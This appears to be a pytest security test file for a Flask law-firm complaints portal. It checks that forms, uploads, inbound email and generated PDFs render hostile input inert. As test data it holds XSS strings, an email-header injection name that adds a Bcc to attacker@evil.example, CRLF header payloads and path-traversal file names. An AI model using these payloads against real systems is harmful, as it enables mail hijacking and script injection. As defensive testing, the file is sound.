    FormCase("follow-up: root cause in words", "partner2", _on_complaint("/follow-up/close"),
             (Field("text-{other}", 2000),), setup=_follow_up_answered, views=_case_file,
             data=lambda app, ctx, round_: {"version": version(app, ctx["key"]),
                                            "cause": str(ctx["other"])}),
    FormCase("public: satisfaction survey", None, lambda app, ctx: ctx["survey"],
             (Field("open_issue", 4000), Field("comments", 4000)), setup=_follow_up,
             data=_always(satisfaction="2"), viewer="investigator", views=_case_file),
]


# improvement -----------------------------------------------------------------------------------


def _action_form(app: Flask, ctx: Context, round_: int) -> dict:
    with app.app_context():
        cause = db.session.scalar(select(RootCause.id).where(RootCause.code == "other"))
    return {"kind": "procedure", "owner": str(user_id(app, "investigator")),
            "due": (portal_clock.today() + timedelta(days=20)).isoformat(),
            "complaints": "", "root_causes": [str(cause)]}


def _an_action(app: Flask, client: Client, auth: AuthActions) -> Context:
    sign_in(auth, "partner2")
    response = client.post("/actions", data={**_action_form(app, {}, 0), "title": "台账",
                                             "description": "每个团队一本。"}, headers=HX)
    assert response.status_code == 200, response.text
    return {"action": int(response.headers["HX-Redirect"].rsplit("/", 1)[1])}


def _action_pages(app: Flask, ctx: Context) -> list[str]:
    action = ctx.get("action") or _newest(app, ImprovementAction)
    return ["/actions", f"/actions/{action}"]


def _a_cause(app: Flask, client: Client, auth: AuthActions) -> Context:
    return {"cause": root_cause(app, "staff_attitude")}


def _cause_version(app: Flask, ctx: Context, round_: int) -> dict:
    with app.app_context():
        return {"version": db.session.get(RootCause, ctx["cause"]).version}


def _causes_page(app: Flask, ctx: Context) -> list[str]:
    return ["/admin/root-causes"]


IMPROVEMENT = [
    FormCase("improvement: new root cause", "partner2", _fixed("/admin/root-causes"),
             (Field("label_zh", 200), Field("label_en", 200)), rounds=2,
             views=_causes_page, data=lambda app, ctx, round_: {"code": f"cause_{round_}"}),
    FormCase("improvement: root cause labels", "partner2",
             lambda app, ctx: f"/admin/root-causes/{ctx['cause']}",
             (Field("label_zh", 200), Field("label_en", 200)), setup=_a_cause, rounds=2,
             data=_cause_version, views=_causes_page),
    FormCase("improvement: new action", "partner2", _fixed("/actions"),
             (Field("title", 200), Field("description", 4000)), rounds=2,
             data=_action_form, views=_action_pages),
    FormCase("improvement: edited action", "partner2",
             lambda app, ctx: f"/actions/{ctx['action']}",
             (Field("title", 200), Field("description", 4000)), setup=_an_action, rounds=2,
             views=_action_pages, data=lambda app, ctx, round_: {
                 **_action_form(app, ctx, round_),
                 "version": _row_version(app, ImprovementAction, ctx["action"])}),
    FormCase("improvement: action status note", "investigator",
             lambda app, ctx: f"/actions/{ctx['action']}/status", (Field("note", 2000),),
             setup=_an_action, views=_action_pages, data=lambda app, ctx, round_: {
                 "status": "dropped",
                 "version": _row_version(app, ImprovementAction, ctx["action"])}),
]


# bulletins -------------------------------------------------------------------------------------


def _bulletin_drafted(app: Flask, client: Client, auth: AuthActions) -> Context:
    finished(app)
    sign_in(auth, "partner2")
    response = client.post(f"/complaints/{BULLETIN_KEY}/bulletin", headers=HX)
    assert response.status_code in (200, 303), response.text
    return {"bulletin": _newest(app, Bulletin)}


def _bulletin_review(app: Flask, ctx: Context) -> list[str]:
    return [f"/bulletins/{ctx['bulletin']}/review"]


def _bulletin_version(app: Flask, ctx: Context, round_: int) -> dict:
    return {"version": _row_version(app, Bulletin, ctx["bulletin"]), "index": "0"}


BULLETINS = [
    FormCase("bulletins: edited draft", "partner2",
             lambda app, ctx: f"/bulletins/{ctx['bulletin']}/review/edit",
             (Field("title", 200), Field("body", 60_000)), setup=_bulletin_drafted, rounds=2,
             data=_bulletin_version, views=_bulletin_review),
    # The reason is kept for the record and shown nowhere: only a refused form gives it back.
    FormCase("bulletins: kept word's reason (stale form)", "partner2",
             lambda app, ctx: f"/bulletins/{ctx['bulletin']}/review/undo",
             (Field("reason", 1000),), setup=_bulletin_drafted,
             data=lambda app, ctx, round_: {
                 **_bulletin_version(app, ctx, round_),
                 "version": _row_version(app, Bulletin, ctx["bulletin"]) - 1}),
]


# prevention: matters, their types, expectations and reports ------------------------------------

MATTER = "M-2025-0142"


def _matter_form(app: Flask, ctx: Context, round_: int) -> dict:
    client = _row_id(app, MatterClient, name="李明")
    return {"reference": f"M-2026-05{round_:02d}", "client": str(client),
            "type_code": "litigation", "department": "", "lawyer": str(user_id(app, "王磊")),
            "partner": str(user_id(app, "partner2")), "team": [], "status": "open",
            "opened_on": (portal_clock.today() - timedelta(days=10)).isoformat(),
            "closed_on": "", "interval": "", "fees_agreed": "", "fees_paid": "",
            "currency": "CNY"}


def _matter_pages(app: Flask, ctx: Context) -> list[str]:
    return ["/matters", f"/matters/{MATTER}"]


def _new_matter_pages(app: Flask, ctx: Context) -> list[str]:
    return ["/matters", "/matters/M-2026-0500"]


def _latest_expectation(app: Flask, ctx: Context, round_: int) -> dict:
    with app.app_context():
        latest_id = db.session.scalar(
            select(func.max(ExpectationEntry.id)).join(Matter)
            .where(Matter.reference == MATTER, ExpectationEntry.item == "scope"))
    return {"latest": str(latest_id or 0)}


def _type_version(app: Flask, ctx: Context, round_: int) -> dict:
    with app.app_context():
        return {"version": db.session.get(MatterType, "litigation").version,
                "stage": "engagement"}


PREVENTION = [
    FormCase("prevention: new matter", "partner2", _fixed("/matters"),
             (Field("title", 200), Field("case_number", 80)), data=_matter_form,
             views=_new_matter_pages),
    FormCase("prevention: edited matter", "partner2", _fixed(f"/matters/{MATTER}/edit"),
             (Field("title", 200), Field("case_number", 80)), rounds=2, views=_matter_pages,
             data=lambda app, ctx, round_: {
                 **_matter_form(app, ctx, round_), "reference": MATTER,
                 "version": _row_version(app, Matter, _row_id(app, Matter, reference=MATTER))}),
    FormCase("prevention: engagement expectation", "partner2",
             _fixed(f"/matters/{MATTER}/expectations/scope"), (Field("text", 4000),),
             rounds=2, data=_latest_expectation, views=_matter_pages),
    FormCase("prevention: progress report", "partner2", _fixed(f"/matters/{MATTER}/reports"),
             (Field("summary", 4000), Field("text_sent", 20_000)), rounds=2,
             views=_matter_pages, data=lambda app, ctx, round_: {
                 "reported_on": _today(), "channel": "email"}),
    FormCase("prevention: new matter type", "partner2", _fixed("/admin/matter-types"),
             (Field("label_zh", 100), Field("label_en", 100)),
             rounds=2, views=lambda app, ctx: ["/admin/matter-types"],
             data=lambda app, ctx, round_: {"code": f"type_{round_}", "interval": "30"}),
    FormCase("prevention: edited matter type", "partner2", _fixed("/admin/matter-types/litigation"),
             (Field("label_zh", 100), Field("label_en", 100)), rounds=2,
             views=lambda app, ctx: ["/admin/matter-types", "/admin/matter-types/litigation"],
             data=lambda app, ctx, round_: {**_type_version(app, ctx, round_),
                                            "interval": "30"}),
    FormCase("prevention: new checklist step", "partner2",
             _fixed("/admin/matter-types/litigation/steps"),
             (Field("label_zh", 200), Field("label_en", 200)), rounds=2, data=_type_version,
             views=lambda app, ctx: ["/admin/matter-types/litigation"]),
]


# administration --------------------------------------------------------------------------------


def _users_pages(app: Flask, ctx: Context) -> list[str]:
    return ["/admin/users", f"/admin/users/{ctx.get('user') or _newest(app, User)}/edit"]


def _reception_account(app: Flask, client: Client, auth: AuthActions) -> Context:
    return {"user": user_id(app, "reception")}


def _rule_pages(app: Flask, ctx: Context) -> list[str]:
    return ["/admin/rules"]


ADMIN = [
    FormCase("admin: new user", "partner2", _fixed("/admin/users/new"),
             (Field("name", 100), Field("aliases", 100)), views=_users_pages,
             data=_always(username="new.clerk", email="new.clerk@firm.example",
                          department="", roles=["receptionist"],
                          password="a good long password", confirm="a good long password")),
    FormCase("admin: new user's username and email (refused)", "partner2",
             _fixed("/admin/users/new"), (Field("username", 64), Field("email", 254)),
             rounds=2, data=_always(name="新同事", roles=["receptionist"],
                                    password="a good long password",
                                    confirm="a good long password")),
    FormCase("admin: edited user", "partner2",
             lambda app, ctx: f"/admin/users/{ctx['user']}/edit",
             (Field("name", 100), Field("aliases", 100)), setup=_reception_account, rounds=2,
             views=_users_pages, data=_always(email="reception@firm.example", department="",
                                              roles=["receptionist"], active="y")),
    FormCase("admin: rule of conduct", "partner2", _fixed("/admin/rules"),
             (Field("article", 40), Field("title_zh", 200), Field("title_en", 200)),
             rounds=2, views=_rule_pages, data=_always(source="firm_procedure")),
]


FORMS: list[FormCase] = [*INTAKE, *PUBLIC, *SEARCHES, *TRIAGE, *INVESTIGATION, *FINDINGS,
                         *RESOLUTION, *REMEDIES, *IMPROVEMENT, *BULLETINS, *PREVENTION, *ADMIN]


@pytest.mark.parametrize("case", FORMS, ids=str)
def test_payloads_through_every_form_produce_no_active_content(case, app, client, auth, corpus,
                                                               mail_sink):
    run_case(case, app, client, auth, corpus, mail_sink)


# -- upload names ---------------------------------------------------------------------------------

TEXT_FILE = b"Evidence written in plain text.\n"
Upload = tuple[str, dict, dict[str, list[str]]]  # URL, the form's fields, file field → names


def multipart(fields: dict, files: dict[str, list[str]]) -> tuple[bytes, str]:
    """A multipart/form-data body (and its content type) whose files, TEXT_FILE each, carry
    their names as RFC 2231 `filename*`: a name reaches the portal exactly as written, quotes,
    backslashes and line breaks included, as any client but a browser may send it."""
    boundary = secrets.token_hex(16)
    parts = [(f'form-data; name="{name}"', str(value).encode())
             for name, values in fields.items()
             for value in (values if isinstance(values, list) else [values])]
    parts += [(f"form-data; name=\"{name}\"; filename*=UTF-8''{quote(filename, safe='')}",
               TEXT_FILE) for name, filenames in files.items() for filename in filenames]
    body = b"".join(f"--{boundary}\r\nContent-Disposition: {disposition}\r\n\r\n".encode()
                    + content + b"\r\n" for disposition, content in parts)
    return body + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def post_files(client: Client, upload: Upload) -> TestResponse:
    url, fields, files = upload
    body, content_type = multipart(fields, files)
    return client.post(url, data=body, content_type=content_type, headers=HX)


@dataclass(frozen=True)
class UploadCase:
    """A form that takes a file: who posts it, the post of one named file, and the stored
    files' names with their download URLs, and the pages that list them."""

    name: str
    user: str
    setup: Setup
    upload: Callable[[Flask, Context, str], Upload]
    stored: Callable[[Flask, Context], list[tuple[str, str]]]
    pages: Callable[[Flask, Context], list[str]]

    def __str__(self) -> str:
        return self.name


def _evidence_upload(path: str) -> Callable[[Flask, Context, str], Upload]:
    return lambda app, ctx, name: (
        f"/complaints/{ctx['key']}{path}",
        {"evidence-category": "engagement_contract", "evidence-description": ""},
        {"evidence-file": [name]})


def _statement_upload(app: Flask, ctx: Context, name: str) -> Upload:
    return (f"/complaints/{ctx['key']}/investigation/statements", {
        "statement-speaker": "complainant", "statement-method": "interview",
        "statement-given_on": _today(), "statement-text": "客户陈述。",
        "statement-attachment_category": "communications"},
        {"statement-attachments": [name]})


def _checklist_upload(app: Flask, ctx: Context, name: str) -> Upload:
    return (f"/matters/{MATTER}/checklist/{ctx['item']}/document",
            {"version": _row_version(app, MatterChecklistItem, ctx["item"])},
            {"document": [name]})


def _receipt_upload(app: Flask, ctx: Context, name: str) -> Upload:
    return (_task_url("partial_refund")(app, ctx), {
        **_task_version("partial_refund")(app, ctx, 0), "paid_amount": "2500",
        "paid_on": _today(), "method": "alipay"}, {"receipt": [name]})


def _evidence_of(app: Flask, ctx: Context) -> list[tuple[str, str]]:
    """(name, download URL) of every file on the complaint, intake's and the workspace's."""
    complaint_id = complaint_of(app, ctx["key"]).id
    with app.app_context():
        rows = db.session.scalars(select(Evidence).where(Evidence.complaint_id == complaint_id))
        return [(row.original_name,
                 f"/complaints/{ctx['key']}/evidence/{row.id}" if row.phase == "intake" else
                 f"/complaints/{ctx['key']}/investigation/evidence/{row.id}") for row in rows]


def _checklist_document(app: Flask, ctx: Context) -> list[tuple[str, str]]:
    with app.app_context():
        item = db.session.get(MatterChecklistItem, ctx["item"])
        return [(item.document_name, f"/matters/{MATTER}/checklist/{item.id}/document")]


def _receipt(app: Flask, ctx: Context) -> list[tuple[str, str]]:
    with app.app_context():
        task = db.session.get(RemedyTask, ctx["partial_refund"])
        name = db.session.get(Evidence, task.receipt_evidence_id).original_name
    return [(name, f"/complaints/{ctx['key']}/remedies/{task.id}/receipt")]


def _checklist_item(app: Flask, client: Client, auth: AuthActions) -> Context:
    with app.app_context():
        item = db.session.scalar(select(MatterChecklistItem.id).join(Matter).where(
            Matter.reference == MATTER, MatterChecklistItem.needs_document.is_(True)))
    assert item is not None, f"{MATTER} has no checklist step that keeps a document"
    return {"item": item}


UPLOADS = [
    UploadCase("intake evidence", "reception", _draft, _evidence_upload("/evidence"),
               _evidence_of, _case_file),
    UploadCase("workspace evidence", "investigator", _investigating,
               _evidence_upload("/investigation/evidence"), _evidence_of, _evidence_pages),
    UploadCase("statement attachments", "investigator", _investigating, _statement_upload,
               _evidence_of, _evidence_pages),
    UploadCase("matter checklist document", "partner2", _checklist_item, _checklist_upload,
               _checklist_document, _matter_pages),
    UploadCase("refund receipt", "investigator", _remedies_started, _receipt_upload,
               _receipt, _case_file),
]


def places_outside(app: Flask) -> list[Path]:
    """Where a name that climbs out of the evidence folder (or is taken as absolute, or as
    relative to the working directory) would land."""
    evidence = Path(app.config["EVIDENCE_DIR"]).resolve()
    return [*evidence.parents, Path.cwd(), *Path.cwd().parents, Path(tempfile.gettempdir())]


@pytest.mark.parametrize("case", UPLOADS, ids=str)
def test_upload_names_stay_in_the_evidence_folder_and_come_back_inert(case, app, client, auth,
                                                                      corpus):
    context = case.setup(app, client, auth) or {}
    sign_in(auth, case.user)
    token = secrets.token_hex(6)
    for name in evil_filenames(token):
        checked(post_files(client, case.upload(app, context, name)), corpus)
    stored = case.stored(app, context)
    assert stored, f"{case.name}: no file was stored, so nothing was checked"
    for original, url in stored:
        assert not bad_original_name(original), original
        download = client.get(url)
        assert download.status_code == 200 and download.data == TEXT_FILE, url
        checked(download, corpus)
    for url in case.pages(app, context):
        for headers in ({}, HX):
            checked(client.get(url, headers=headers), corpus)
    evidence = Path(app.config["EVIDENCE_DIR"])
    assert escaped_copies(places_outside(app), token, allowed=[evidence]) == []
    assert all(re.fullmatch(r"[0-9a-f]{32}", p.name) for p in evidence.iterdir())


def test_a_percent_encoded_upload_name_is_not_downloaded_as_a_path(app, client, auth, corpus):
    """`..%2F..%2Fx.txt` is a harmless name once stored, but a browser that percent-decodes a
    plain `filename=` (RFC 6266, appendix D) would save the download as `../../x.txt`."""
    context = _draft(app, client, auth)
    token = secrets.token_hex(6)
    checked(post_files(client, _evidence_upload("/evidence")(app, context,
                                                             encoded_filename(token))), corpus)
    [(original, url)] = _evidence_of(app, context)
    assert token in original and not bad_original_name(original), original
    download = client.get(url)
    assert download.status_code == 200 and download.data == TEXT_FILE, url
    assert http_header_problems(download.headers.items()) == [], \
        download.headers["Content-Disposition"]


# -- mail: to a client named with payloads, and from the complaints mailbox -----------------------

CLIENT_EMAIL = "chen.xiaohong@example.com"
SENDER = "hostile.sender@client.example"


def flat(text: str) -> str:
    """The text as pdf_text gives it back: without whitespace."""
    return "".join(text.split())


def check_pdf(pdf: bytes, *texts: str) -> None:
    """A PDF that holds no file of the server, and each of `texts` printed as written."""
    assert pdf.startswith(b"%PDF-"), pdf[:200]
    assert pdf_problems(pdf) == []
    printed = pdf_text(pdf)
    assert [t for t in texts if flat(t) not in printed] == [], printed[:3000]


def _register_with_payloads(app: Flask, client: Client, corpus: Corpus, name: str) -> str:
    """A complaint registered through the builder's forms, every text a payload and the
    client's name `name`: read back, confirmed in person, registered. Its reference."""
    key = complete_draft(client, app)
    sections = {
        "complainant": complainant_fields(**{"complainant-name": name,
                                             "complainant-email": CLIENT_EMAIL,
                                             "complainant-address": corpus.for_field(300, 3)}),
        "incident": incident(**{"incident-narrative": corpus.combined,
                                "incident-occurred_place": corpus.for_field(200, 5)}),
        "remedy": remedy(codes=("explanation", "other"), details=corpus.combined),
    }
    for section, data in sections.items():
        response = save(client, app, key, section, data)
        assert response.status_code == 200, (section, response.text[:2000])
        checked(response, corpus)
    assert complaint_of(app, key).complainant.name == name
    read_back = client.get(f"/complaints/{key}/read-back")
    assert read_back.status_code == 200
    assert shown_literally(checked(read_back, corpus), name)
    assert confirm_in_person(client, app, key).status_code == 303
    response = client.post(f"/complaints/{key}/register", headers=HX)
    assert response.status_code == 200, response.text
    return response.headers["HX-Redirect"].rsplit("/", 1)[1]


# A display name that would add recipients if it reached the To: header unquoted. (A name
# with a line break never gets that far: the complainant section refuses it.)
ADDRESSES_IN_A_NAME = '陈小红, Bcc <attacker@evil.example>; "x" <x@evil.example>'


@pytest.mark.parametrize("payload", ["chinese_mix", "addresses"])
def test_the_acknowledgement_to_a_client_named_with_a_payload_is_inert(payload, app, client,
                                                                        auth, corpus,
                                                                        mail_sink):
    sign_in(auth, "reception")
    name = ADDRESSES_IN_A_NAME if payload == "addresses" else corpus.named(payload).text
    reference = _register_with_payloads(app, client, corpus, name)
    mail = delivered(app, mail_sink)
    check_mail(mail, corpus)
    [acknowledgement] = [e.data for e in mail.envelopes if e.rcpt_tos == [CLIENT_EMAIL]]
    assert reference in acknowledgement.decode("ascii", "replace")
    [pdf] = pdf_attachments(acknowledgement)
    check_pdf(pdf, name, *(p.text for p in corpus.payloads))
    assert any(shown_literally(html, name) for html in html_parts(acknowledgement))


# The sender's display name and the Subject of a hostile message: a line break that would start
# a header of its own if copied into a reply, an address hidden in the name, markup.
HOSTILE_NAME = ('Subject\r\nBcc: attacker@evil.example "><svg onload=alert(1)> '
                "<x@evil.example>")
HOSTILE_SUBJECT = ("委托人王芳称<script>alert(1)</script>律师<img src=x onerror=alert(1)>"
                   "三个月未回复")


def _encoded_word(text: str) -> str:
    """RFC 2047: the text exactly as written, line breaks included, in one encoded word (a
    raw line break would end the header; an encoded one is what a decoder hands on)."""
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def _hostile_email(corpus: Corpus, token: str, *, html: bool) -> bytes:
    """A message to the complaints mailbox from SENDER, built byte by byte (the email package
    refuses to write most of it): its display name and Subject carry line breaks and markup,
    its body every payload (as an HTML-only body: each raw, then as text), its attachments
    the names of evil_filenames, as RFC 2231 `filename*`."""
    boundary = f"=={secrets.token_hex(12)}"
    if html:
        markup = "".join(f"<p>{p.text}</p><p>{html_escape(p.text)}</p>"
                         for p in corpus.payloads)
        body = ("text/html", f"<html><body>{markup}</body></html>")
    else:
        body = ("text/plain", corpus.combined)
    parts = [(f'Content-Type: {body[0]}; charset="utf-8"', body[1].encode())]
    parts += [('Content-Type: text/plain; charset="utf-8"\r\nContent-Disposition: attachment; '
               f"filename*=UTF-8''{quote(name, safe='')}", TEXT_FILE)
              for name in evil_filenames(token)]
    head = "\r\n".join([
        f"Authentication-Results: mx.firm.example; {PASSING}",
        f"From: {_encoded_word(HOSTILE_NAME)} <{SENDER}>",
        "To: complaints@firm.example",
        f"Subject: {_encoded_word(corpus.named('crlf_header').text + ' ' + HOSTILE_SUBJECT)}",
        "Date: Wed, 01 Jan 2020 08:00:00 +0800",
        f"Message-ID: <{token}@client.example>",
        "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{boundary}"'])
    encoded = b"".join(
        f"--{boundary}\r\n{headers}\r\nContent-Transfer-Encoding: base64\r\n\r\n".encode()
        + base64.encodebytes(data).replace(b"\n", b"\r\n") for headers, data in parts)
    return head.encode() + b"\r\n\r\n" + encoded + f"--{boundary}--\r\n".encode()


def _one_line(text: str) -> str:
    return " ".join(text.split())


def _mailbox_pages(app: Flask, client: Client, auth: AuthActions, corpus: Corpus,
                   messages: list[bytes], sink_dir: Path, reader: str) -> list[str]:
    """The development /mailbox (MAIL_SINK_DIR) holding `messages` as the sink stores them: the
    list, each message and each attachment, as `reader` reads them."""
    app.config["MAIL_SINK_DIR"] = str(sink_dir)
    names = [MaildirSink(sink_dir).store(raw).name for raw in messages]
    sign_in(auth, reader)
    pages = [checked(client.get("/mailbox", headers=headers), corpus) for headers in ({}, HX)]
    for name, raw in zip(names, messages, strict=True):
        page = client.get(f"/mailbox/{name}")
        assert page.status_code == 200, name
        pages.append(checked(page, corpus))
        attachments = message_from_bytes(raw, policy=policy.default).iter_attachments()
        for index, _part in enumerate(attachments):
            download = client.get(f"/mailbox/{name}/attachments/{index}")
            assert download.status_code == 200, (name, index)
            checked(download, corpus)
    return pages


@pytest.mark.parametrize("html", [False, True], ids=["text body", "html-only body"])
def test_a_hostile_email_becomes_an_inert_draft_and_an_inert_receipt(html, app, client, auth,
                                                                      corpus, imap_mailbox,
                                                                      mail_sink, tmp_path):
    token = secrets.token_hex(6)
    raw = _hostile_email(corpus, token, html=html)
    imap_mailbox.deliver(raw)
    assert fetch(app) == 1
    [draft] = email_drafts(app)
    key = f"D{draft.id}"
    # The sender's name and the subject are kept on one line, markup as text.
    assert draft.complainant.name == _one_line(HOSTILE_NAME)
    assert draft.narrative.startswith(_one_line(corpus.named("crlf_header").text))
    stored = _evidence_of(app, {"key": key})
    assert sum(token in name for name, _url in stored) == len(evil_filenames(token)), stored
    sign_in(auth, "reception")
    pages = [checked(client.get(f"/complaints/{key}", headers=headers), corpus)
             for headers in ({}, HX)]
    for original, url in stored:
        assert not bad_original_name(original), original
        download = client.get(url)
        assert download.status_code == 200, url
        checked(download, corpus)
    evidence = Path(app.config["EVIDENCE_DIR"])
    assert escaped_copies(places_outside(app), token, allowed=[evidence]) == []
    assert all(re.fullmatch(r"[0-9a-f]{32}", p.name) for p in evidence.iterdir())
    # The automatic receipt goes to the sender alone, the name in its To: on one line.
    mail = delivered(app, mail_sink)
    check_mail(mail, corpus)
    [receipt] = [e.data for e in mail.envelopes if e.rcpt_tos == [SENDER]]
    to = str(make_header(decode_header(
        message_from_bytes(receipt, policy=policy.compat32)["To"])))
    assert "\r" not in to and "\n" not in to and SENDER in to
    pages += _mailbox_pages(app, client, auth, corpus, [receipt], tmp_path / "mail",
                            reader="reception")
    for text in (HOSTILE_SUBJECT, corpus.named("script").text):
        assert any(shown_literally(page, text) for page in pages), text


def test_the_development_mailbox_shows_a_hostile_message_inert(app, client, auth, corpus,
                                                               tmp_path):
    """The sink takes mail from anyone on the machine, not only from the outbox (such mail is
    for partners only)."""
    raw = _hostile_email(corpus, secrets.token_hex(6), html=False)
    pages = _mailbox_pages(app, client, auth, corpus, [raw], tmp_path / "mail",
                           reader="partner2")
    assert any(shown_literally(page, HOSTILE_SUBJECT) for page in pages)


# -- documents: every notice rendered from a complaint full of payloads ---------------------------
#
# The autouse `documents` fixture checks what WeasyPrint was given and asked for; each test here
# also checks the PDF: no file of the server in it, and a payload printed as the text it was.


def _named_with_a_payload(app: Flask, complaint_id: int, corpus: Corpus) -> str:
    """The complaint's client renamed to a payload (the name every notice opens with)."""
    name = corpus.named("chinese_mix").text
    with app.app_context(), write_transaction():
        db.session.get(Complaint, complaint_id).complainant.name = name
    return name


def _download(client: Client, url: str, corpus: Corpus) -> bytes:
    response = client.get(url)
    assert response.status_code == 200 and response.mimetype == "application/pdf", url
    checked(response, corpus)
    return response.data


def _mailed_pdfs(app: Flask, sink: SMTPServer, corpus: Corpus, address: str) -> list[bytes]:
    """The PDFs of every message the test sent to `address` (all its mail checked first)."""
    mail = delivered(app, sink)
    check_mail(mail, corpus)
    return [pdf for e in mail.envelopes if e.rcpt_tos == [address]
            for pdf in pdf_attachments(e.data)]


def test_the_acknowledgement_printed_for_post_is_inert(app, client, auth, corpus):
    # Marked, so that finding them is not finding the narrative's copy of the payload.
    address, place = (f"地址{corpus.named('css_url').text}",
                      f"地点{corpus.named('img_file').text}")
    with app.app_context():
        complaint_id = make_investigation(reference=LATER_KEY, client_email=None,
                                          state=State.REGISTERED)
        with write_transaction():
            complaint = db.session.get(Complaint, complaint_id)
            complaint.complainant.address = address
            complaint.narrative = corpus.combined
            complaint.occurred_place = place
            complaint.remedies_sought = ["explanation", "other"]
            complaint.remedy_details = corpus.named("link_css").text
    name = _named_with_a_payload(app, complaint_id, corpus)
    sign_in(auth, "reception")
    page = client.get(f"/complaints/{LATER_KEY}").text
    action = f"/complaints/{LATER_KEY}/acknowledgement/print"
    response = client.post(action, data={"version": version_of(page, action)}, headers=HX)
    assert response.status_code == 200, response.text
    checked(response, corpus)
    with app.app_context():
        notice = db.session.scalar(select(Notice).where(Notice.complaint_id == complaint_id))
        assert (notice.kind, notice.delivery) == ("acknowledgement", "post")
    pdf = _download(client, f"/complaints/{LATER_KEY}/notices/{notice.id}.pdf", corpus)
    check_pdf(pdf, name, address, place, *(p.text for p in corpus.payloads))


def test_the_investigation_report_is_inert(app, client, auth, corpus):
    text, notes = f"指控{corpus.named('svg_onload').text}", f"补救{corpus.named('iframe').text}"
    context = _under_investigation(app, client, auth)
    with app.app_context():
        answer_all(context["id"])
        with write_transaction():
            for allegation in db.session.get(Complaint, context["id"]).allegations:
                allegation.text = text
                allegation.reasoning = corpus.combined
                allegation.remedy_notes = notes
    name = _named_with_a_payload(app, context["id"], corpus)
    sign_in(auth, "partner2")
    page = client.get(f"/complaints/{LATER_KEY}").text
    form = page.split('<div id="findings-submit"', 1)[1]
    data = {field: re.search(rf'name="{field}" value="([^"]*)"', form).group(1)
            for field in ("version", "fingerprint")}
    response = client.post(f"/complaints/{LATER_KEY}/findings/submit", data=data, headers=HX)
    assert response.status_code == 200 and "HX-Redirect" in response.headers, response.text
    pdf = _download(client, f"/complaints/{LATER_KEY}/findings/report.pdf", corpus)
    check_pdf(pdf, name, text, notes, *(p.text for p in corpus.payloads))


def test_the_progress_notice_is_inert(app, client, auth, corpus, mail_sink):
    context = _under_investigation(app, client, auth)
    name = _named_with_a_payload(app, context["id"], corpus)
    sign_in(auth, "investigator")
    response = client.post(f"/complaints/{LATER_KEY}/first-response", headers=HX, data={
        "first-response-method": "notice", "first-response-summary": corpus.combined,
        "first-response-next_steps": corpus.combined,
        "first-response-next_contact_on": (portal_clock.today() + timedelta(days=7)).isoformat()})
    assert response.status_code == 200, response.text
    checked(response, corpus)
    [mailed] = _mailed_pdfs(app, mail_sink, corpus, "li.ming@example.com")
    pdf = _download(client, f"/complaints/{LATER_KEY}/first-response/notice.pdf", corpus)
    assert pdf == mailed
    check_pdf(pdf, name, *(p.text for p in corpus.payloads))


def test_the_outcome_notice_is_inert(app, client, auth, corpus, mail_sink):
    context = _awaiting_decision(app, client, auth)
    recourse = f"Recourse {corpus.named('css_import').text}"
    set_recourse(app, zh=corpus.combined, en=recourse)
    name = _named_with_a_payload(app, context["id"], corpus)
    sign_in(auth, "partner2")
    response = client.post(f"/complaints/{LATER_KEY}/decision", headers=HX, data={
        **_decision_form(app, context, 0), "client_summary": corpus.combined})
    assert response.status_code == 200, response.text
    checked(response, corpus)
    page = client.get(f"/complaints/{LATER_KEY}").text
    action = f"/complaints/{LATER_KEY}/outcome"
    response = client.post(action, data={"version": version_of(page, action)})
    assert response.status_code == 303, response.text
    [pdf] = _mailed_pdfs(app, mail_sink, corpus, "li.ming@example.com")
    check_pdf(pdf, name, recourse, *(p.text for p in corpus.payloads))


def test_the_apology_letter_and_the_completion_notice_are_inert(app, client, auth, corpus,
                                                                mail_sink):
    complaint_id = accepted(app, remedies_=[("written_apology", None, None, None)])
    tasks = started(app, complaint_id)
    name = _named_with_a_payload(app, complaint_id, corpus)
    sign_in(auth, "investigator")
    context = {"key": LATER_KEY, **tasks}
    response = client.post(_task_url("written_apology")(app, context), headers=HX, data={
        **_task_version("written_apology")(app, context, 0), "letter_text": corpus.combined})
    assert response.status_code == 200, response.text
    checked(response, corpus)
    with app.app_context():
        kinds = db.session.scalars(select(Notice.kind).where(
            Notice.complaint_id == complaint_id).order_by(Notice.id)).all()
    assert sorted(kinds) == ["apology", "completion"]
    apology, completion = _mailed_pdfs(app, mail_sink, corpus, "li.ming@example.com")
    check_pdf(apology, name, *(p.text for p in corpus.payloads))
    check_pdf(completion, name)


def test_the_bulletin_pdf_is_inert(app, client, auth, corpus):
    """A published bulletin (its review's forms take payloads in FORMS above)."""
    title, rule = corpus.named("hx_on").text, f"规范{corpus.named('js_bare').text}"
    bulletin = add_bulletin(app, title, corpus.combined, rules=(rule,))
    sign_in(auth, "investigator")
    assert shown_literally(checked(client.get(f"/bulletins/{bulletin}"), corpus), title)
    pdf = _download(client, f"/bulletins/{bulletin}.pdf", corpus)
    check_pdf(pdf, title, rule, *(p.text for p in corpus.payloads))


SVG_URI = re.compile(r"data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)")


def test_the_quarterly_report_and_its_root_cause_chart_are_inert(app, client, auth, corpus,
                                                                  documents):
    """A complaint closed with a root cause whose labels are payloads, an improvement action
    and a bulletin titled with payloads, all in this quarter."""
    context = _follow_up_answered(app, client, auth)
    with app.app_context(), write_transaction():
        db.session.get(Complaint, context["id"]).received_at = portal_clock.now()
    cause = root_cause(app, "staff_attitude")
    labels = {"label_zh": corpus.named("svg_onload").text,
              "label_en": corpus.named("script").text}
    sign_in(auth, "partner2")
    for url, data in (
            (f"/admin/root-causes/{cause}", {**_cause_version(app, {"cause": cause}, 0),
                                              **labels}),
            (f"/complaints/{FOLLOW_UP_KEY}/follow-up/close",
             {"version": version(app, FOLLOW_UP_KEY), "cause": str(cause)}),
            ("/actions", {**_action_form(app, {}, 0), "title": corpus.named("js_link").text,
                          "description": corpus.combined})):
        response = client.post(url, data=data, headers=HX)
        assert response.status_code == 200, (url, response.text)
        checked(response, corpus)
    add_bulletin(app, corpus.named("data_hx").text, corpus.combined)
    quarter = quarter_of(portal_clock.today())
    chart = client.get(f"/analytics/charts/root_cause.svg?period={quarter}")
    assert chart.status_code == 200 and chart.mimetype == "image/svg+xml"
    checked(chart, corpus)
    assert svg_problems(chart.text, corpus) == []
    assert shown_literally(chart.text, labels["label_en"])  # the page's language: English
    pdf = _download(client, f"/analytics/quarterly.pdf?quarter={quarter}", corpus)
    check_pdf(pdf, *labels.values(), corpus.named("js_link").text,
              corpus.named("data_hx").text)
